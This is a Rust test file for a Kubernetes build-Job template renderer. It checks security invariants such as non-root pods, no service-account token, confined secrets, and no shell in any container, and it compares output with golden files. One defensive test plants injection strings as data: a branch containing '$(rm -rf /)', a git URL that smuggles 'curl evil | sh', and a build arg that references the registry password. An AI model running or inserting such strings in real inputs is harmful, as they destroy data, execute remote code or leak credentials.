@@ -1,0 +1,279 @@
+//! The Job templates of `job-templates/`, rendered for a sample app of each kind: typed checks of
+//! the invariants every build pod must keep, and a golden file per kind
+//! (`tests/golden/<kind>.job.yaml`; `KILN_UPDATE_GOLDEN=1` rewrites them after a deliberate change).
+
+use std::collections::BTreeMap;
+use std::path::Path;
+
+use builder_api::config::{RegistryConfig, ToolchainConfig};
+use builder_api::executor::kube::render::{self, RenderInput, Templates};
+use builder_api::plan::{self, DockerfileBuilder, PlanInput, ResolvedKind};
+use builder_api::store::{App, Build, BuildKind, BuildState, KindSettings};
+use k8s_openapi::api::batch::v1::Job;
+use k8s_openapi::api::core::v1::{Container, PodSpec};
+
+fn sample_app(kind: BuildKind, git_token: Option<&str>) -> App {
+    App {
+        id: 7,
+        tenant_id: 3,
+        tenant: "payments".into(),
+        name: "ledger".into(),
+        git_url: "https://gitlab.example.com/payments/ledger.git".into(),
+        project_path: Some("payments/ledger".into()),
+        branch_filter: "*".into(),
+        kind,
+        settings: KindSettings {
+            build_args: BTreeMap::from([("GREETING".into(), "$(KILN_REGISTRY_PASSWORD) `id`".into())]),
+            ..KindSettings::default()
+        },
+        base_image: Some("registry.example.com/base/distroless:1".into()),
+        image_repository: "harbor.example.com/payments/ledger".into(),
+        webhook_secret: "whsec-never-in-a-job".into(),
+        git_token: git_token.map(String::from),
+        has_git_token: git_token.is_some(),
+        created_at: 0,
+    }
+}
+
+fn sample_build(branch: &str) -> Build {
+    Build {
+        id: 42,
+        tenant_id: 3,
+        tenant: "payments".into(),
+        app_id: 7,
+        app: "ledger".into(),
+        state: BuildState::Running,
+        reason: None,
+        git_ref: Some(format!("refs/heads/{branch}")),
+        commit: "0123456789abcdef0123456789abcdef01234567".into(),
+        trigger: "push".into(),
+        kind: None,
+        image: None,
+        image_digest: None,
+        queued_at: 0,
+        started_at: None,
+        finished_at: None,
+    }
+}
+
+struct Rendered {
+    job: Job,
+}
+
+fn render_kind(kind: ResolvedKind, app: &App, build: &Build) -> Rendered {
+    let templates = Templates::load(&Path::new(env!("CARGO_MANIFEST_DIR")).join("../job-templates")).unwrap();
+    let toolchains = ToolchainConfig::default();
+    let registry = RegistryConfig { username: Some("robot$payments+kiln".into()), password: Some("robot-password".into()), ..Default::default() };
+    let input = PlanInput {
+        app,
+        build,
+        kind,
+        toolchains: &toolchains,
+        registry: &registry,
+        dockerfile_builder: DockerfileBuilder::Buildkit,
+    };
+    let steps = plan::steps(&input);
+    let job = render::render(
+        templates.for_kind(kind),
+        &RenderInput {
+            build_id: build.id,
+            tenant: &app.tenant,
+            app: &app.name,
+            namespace: "kiln-payments",
+            steps: &steps,
+            active_deadline_secs: 1800,
+            cache_claim: Some("kiln-cache"),
+            registry_secret: Some("kiln-registry"),
+            git_secret: app.git_token.as_ref().map(|_| "kiln-git-ledger"),
+        },
+    )
+    .unwrap();
+    Rendered { job }
+}
+
+fn pod(job: &Job) -> &PodSpec {
+    job.spec.as_ref().unwrap().template.spec.as_ref().unwrap()
+}
+
+fn containers(job: &Job) -> Vec<&Container> {
+    let p = pod(job);
+    p.init_containers.iter().flatten().chain(p.containers.iter()).collect()
+}
+
+fn env_value<'a>(c: &'a Container, name: &str) -> Option<&'a str> {
+    c.env.iter().flatten().find(|e| e.name == name).and_then(|e| e.value.as_deref())
+}
+
+fn secret_refs(c: &Container) -> Vec<(String, String, String)> {
+    c.env
+        .iter()
+        .flatten()
+        .filter_map(|e| {
+            let r = e.value_from.as_ref()?.secret_key_ref.as_ref()?;
+            Some((e.name.clone(), r.name.clone(), r.key.clone()))
+        })
+        .collect()
+}
+
+/// The invariants of DESIGN.md and issue 3 that every rendered build Job keeps.
+fn assert_invariants(kind: ResolvedKind, job: &Job) {
+    let what = kind.as_str();
+    assert_eq!(job.metadata.name.as_deref(), Some("kiln-build-42"));
+    assert_eq!(job.metadata.namespace.as_deref(), Some("kiln-payments"));
+    let labels = job.metadata.labels.as_ref().unwrap();
+    assert_eq!(labels.get("kiln.dev/build").map(String::as_str), Some("42"));
+    assert_eq!(labels.get("kiln.dev/tenant").map(String::as_str), Some("payments"));
+    assert_eq!(labels.get("kiln.dev/app").map(String::as_str), Some("ledger"));
+    let pod_labels = job.spec.as_ref().unwrap().template.metadata.as_ref().unwrap().labels.as_ref().unwrap();
+    assert_eq!(pod_labels.get("kiln.dev/build").map(String::as_str), Some("42"), "{what}: pods carry the build label");
+
+    let spec = job.spec.as_ref().unwrap();
+    assert_eq!(spec.backoff_limit, Some(0), "{what}: a build runs once");
+    assert_eq!(spec.active_deadline_seconds, Some(1800));
+    assert!(spec.ttl_seconds_after_finished.is_some_and(|t| t > 0), "{what}: a TTL backstop");
+
+    let p = pod(job);
+    assert_eq!(p.restart_policy.as_deref(), Some("Never"));
+    assert_eq!(p.automount_service_account_token, Some(false), "{what}: no service account token");
+    assert_eq!(p.security_context.as_ref().and_then(|s| s.run_as_non_root), Some(true), "{what}: non-root pod");
+
+    let order: Vec<&str> = containers(job).iter().map(|c| c.name.as_str()).collect();
+    let expected: &[&str] = if kind == ResolvedKind::Dockerfile { &["clone", "image"] } else { &["clone", "compile", "image"] };
+    assert_eq!(order, expected, "{what}: steps map to containers in order");
+    assert_eq!(p.containers.len(), 1, "{what}: image is the one main container");
+
+    for c in containers(job) {
+        let name = &c.name;
+        let res = c.resources.as_ref().unwrap_or_else(|| panic!("{what}/{name}: resources"));
+        let requests = res.requests.as_ref().unwrap_or_else(|| panic!("{what}/{name}: requests"));
+        let limits = res.limits.as_ref().unwrap_or_else(|| panic!("{what}/{name}: limits"));
+        assert!(requests.contains_key("cpu") && requests.contains_key("memory"), "{what}/{name}: cpu and memory requests");
+        assert!(limits.contains_key("memory"), "{what}/{name}: a memory limit");
+        if name == "clone" || (name == "image" && kind != ResolvedKind::Dockerfile) {
+            assert!(!limits.contains_key("cpu"), "{what}/{name}: no CPU limit on a short helper step");
+        }
+        let sc = c.security_context.as_ref();
+        assert_ne!(sc.and_then(|s| s.privileged), Some(true), "{what}/{name}: never privileged");
+        if kind == ResolvedKind::Dockerfile && name == "image" {
+            // Rootless BuildKit: unprivileged, non-root, seccomp and AppArmor unconfined only here.
+            let sc = sc.unwrap();
+            assert_eq!(sc.seccomp_profile.as_ref().map(|s| s.type_.as_str()), Some("Unconfined"));
+            assert_eq!(sc.app_armor_profile.as_ref().map(|s| s.type_.as_str()), Some("Unconfined"));
+            assert!(sc.run_as_user.is_some_and(|u| u != 0), "{what}/{name}: BuildKit rootless runs as a user");
+        } else {
+            let sc = sc.unwrap_or_else(|| panic!("{what}/{name}: a security context"));
+            assert_eq!(sc.allow_privilege_escalation, Some(false), "{what}/{name}: no privilege escalation");
+            assert!(sc.seccomp_profile.is_none(), "{what}/{name}: keeps the pod's RuntimeDefault seccomp");
+            assert_ne!(sc.run_as_non_root, Some(false), "{what}/{name}: non-root");
+            assert_ne!(sc.run_as_user, Some(0), "{what}/{name}: non-root");
+        }
+        // Mounts name declared volumes, each path once (the API server refuses duplicates).
+        let mounts: Vec<&str> = c.volume_mounts.iter().flatten().map(|m| m.mount_path.as_str()).collect();
+        let unique: std::collections::BTreeSet<&str> = mounts.iter().copied().collect();
+        assert_eq!(mounts.len(), unique.len(), "{what}/{name}: duplicate mountPath in {mounts:?}");
+        for m in c.volume_mounts.iter().flatten() {
+            assert!(p.volumes.iter().flatten().any(|v| v.name == m.name), "{what}/{name}: mounts undeclared volume {}", m.name);
+        }
+        // The workspace reaches commands only through WORKSPACE; argv refers to $(WORKSPACE).
+        let ws = c.volume_mounts.iter().flatten().find(|m| m.name == "workspace").expect("workspace mount");
+        assert_eq!(env_value(c, "WORKSPACE"), Some(ws.mount_path.as_str()), "{what}/{name}");
+        let command = c.command.as_ref().unwrap();
+        assert!(command.iter().all(|a| !a.contains("/workspace")), "{what}/{name}: no hard-coded workspace path in {command:?}");
+        assert!(c.args.is_none(), "{what}/{name}: the plan's argv is the whole command");
+    }
+
+    // Secrets: the registry Secret only in the image (push) container, the git token only in
+    // clone; no secret value anywhere in the Job.
+    for c in containers(job) {
+        let refs = secret_refs(c);
+        let registry = refs.iter().filter(|(_, s, _)| s == "kiln-registry").count();
+        assert_eq!(registry, if c.name == "image" { 2 } else { 0 }, "{what}/{}: registry Secret refs", c.name);
+        let git = refs.iter().filter(|(_, s, _)| s == "kiln-git-ledger").count();
+        assert_eq!(git, if c.name == "clone" { 1 } else { 0 }, "{what}/{}: git Secret refs", c.name);
+    }
+    let text = serde_json::to_string(job).unwrap();
+    for secret in ["robot-password", "git-token-value", "whsec-never-in-a-job"] {
+        assert!(!text.contains(secret), "{what}: the Job must not hold the secret {secret}");
+    }
+
+    let image = containers(job).into_iter().find(|c| c.name == "image").unwrap();
+    assert_eq!(image.termination_message_path.as_deref(), Some("/workspace/.kiln/result.json"));
+    // The cache: the tenant's PVC wherever a container mounts it.
+    if let Some(cache) = p.volumes.iter().flatten().find(|v| v.name == "cache") {
+        assert_eq!(cache.persistent_volume_claim.as_ref().map(|c| c.claim_name.as_str()), Some("kiln-cache"));
+    }
+}
+
+#[test]
+fn every_template_renders_a_job_that_keeps_the_invariants() {
+    let app = sample_app(BuildKind::Auto, Some("git-token-value"));
+    let build = sample_build("main");
+    for kind in [ResolvedKind::Go, ResolvedKind::Maven, ResolvedKind::Dockerfile] {
+        let r = render_kind(kind, &app, &build);
+        assert_invariants(kind, &r.job);
+    }
+}
+
+#[test]
+fn rendered_jobs_match_the_golden_files() {
+    let app = sample_app(BuildKind::Auto, Some("git-token-value"));
+    let build = sample_build("main");
+    let golden = Path::new(env!("CARGO_MANIFEST_DIR")).join("../tests/golden");
+    for kind in [ResolvedKind::Go, ResolvedKind::Maven, ResolvedKind::Dockerfile] {
+        let r = render_kind(kind, &app, &build);
+        let text = serde_saphyr::to_string(&r.job).unwrap();
+        let path = golden.join(format!("{}.job.yaml", kind.as_str()));
+        if std::env::var("KILN_UPDATE_GOLDEN").is_ok() {
+            std::fs::create_dir_all(&golden).unwrap();
+            std::fs::write(&path, &text).unwrap();
+        }
+        let want = std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{}: {e} (KILN_UPDATE_GOLDEN=1 writes it)", path.display()));
+        assert_eq!(text, want, "{} differs from the rendered Job", path.display());
+    }
+}
+
+#[test]
+fn hostile_user_strings_stay_data_in_argv_and_env() {
+    let branch = "feat/$(rm -rf /)";
+    let mut app = sample_app(BuildKind::Go, None);
+    app.git_url = "https://gitlab.example.com/a/b.git\"; curl evil | sh; echo \"".into();
+    let build = sample_build(branch);
+    for kind in [ResolvedKind::Go, ResolvedKind::Dockerfile] {
+        let job = render_kind(kind, &app, &build).job;
+        let clone = containers(&job).into_iter().find(|c| c.name == "clone").unwrap();
+        // `$` doubled: Kubernetes' $(VAR) expansion gives back exactly the branch as pushed.
+        let git_ref = env_value(clone, "KILN_GIT_REF").unwrap();
+        assert_eq!(plan::expand(git_ref, &[]), format!("refs/heads/{branch}"));
+        assert_eq!(plan::expand(env_value(clone, "KILN_GIT_URL").unwrap(), &[]), app.git_url);
+        assert_eq!(clone.command.as_ref().unwrap(), &vec!["kiln".to_string(), "step".into(), "clone".into()]);
+        // No shell anywhere: no container runs `sh -c`.
+        for c in containers(&job) {
+            let cmd = c.command.as_ref().unwrap();
+            assert!(!cmd.iter().any(|a| a == "sh" || a == "bash" || a == "-c"), "{}: {cmd:?}", c.name);
+        }
+        if kind == ResolvedKind::Dockerfile {
+            // A build arg that names a secret variable is not expanded by Kubernetes.
+            let image = containers(&job).into_iter().find(|c| c.name == "image").unwrap();
+            let arg = image.command.as_ref().unwrap().iter().find(|a| a.starts_with("GREETING=")).unwrap();
+            assert_eq!(plan::expand(arg, &[("KILN_REGISTRY_PASSWORD".into(), "leak".into())]), "GREETING=$(KILN_REGISTRY_PASSWORD) `id`");
+        }
+    }
+}
+
+#[test]
+fn a_template_without_a_step_container_is_refused_at_load() {
+    let dir = tempfile::tempdir().unwrap();
+    let src = Path::new(env!("CARGO_MANIFEST_DIR")).join("../job-templates");
+    for f in ["go.yaml", "maven.yaml", "dockerfile.yaml"] {
+        std::fs::copy(src.join(f), dir.path().join(f)).unwrap();
+    }
+    let go = std::fs::read_to_string(dir.path().join("go.yaml")).unwrap().replace("- name: compile", "- name: build");
+    std::fs::write(dir.path().join("go.yaml"), go).unwrap();
+    let err = Templates::load(dir.path()).unwrap_err().to_string();
+    assert!(err.contains("go") && err.contains("\"compile\""), "{err}");
+
+    std::fs::write(dir.path().join("maven.yaml"), "apiVersion: batch/v1\nkind: Job\nspec: [not a map").unwrap();
+    std::fs::copy(src.join("go.yaml"), dir.path().join("go.yaml")).unwrap();
+    let err = Templates::load(dir.path()).unwrap_err().to_string();
+    assert!(err.contains("maven.yaml"), "{err}");
+}
